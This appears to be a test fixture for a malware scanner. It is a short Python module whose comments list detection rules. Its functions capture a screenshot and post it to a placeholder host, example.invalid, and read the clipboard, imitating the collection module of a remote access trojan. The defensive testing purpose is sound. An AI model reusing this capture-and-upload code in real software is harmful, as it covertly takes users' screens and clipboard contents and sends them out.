# canary-test: path=mypkg/monitor.py artifact=wheel
# Screenshots and clipboard captured in functions and uploaded: the collection
# and reporting module of a RAT (inert: example.invalid, never called).
import io
import urllib.request

import pyperclip
from PIL import ImageGrab


def snap():
    buf = io.BytesIO()
    # ruleid: SCREEN_CAPTURE, SPYWARE_WITH_UPLOAD, screen_capture
    ImageGrab.grab().save(buf, "PNG")
    # ruleid: SPYWARE_WITH_UPLOAD
    urllib.request.urlopen("https://example.invalid/s", buf.getvalue(), timeout=5)


def clip():
    # ruleid: CLIPBOARD_READ, SPYWARE_WITH_UPLOAD, clipboard_read
    return pyperclip.paste()
# Screen plus clipboard without keystrokes is what imaging libraries do.
# ok: SPYWARE_TO_EXFIL_SERVICE, SPYWARE_AT_IMPORT, KEYSTROKE_CAPTURE, CLIPBOARD_CRYPTO_SWAP, SPYWARE_MULTIPLE_CAPTURES
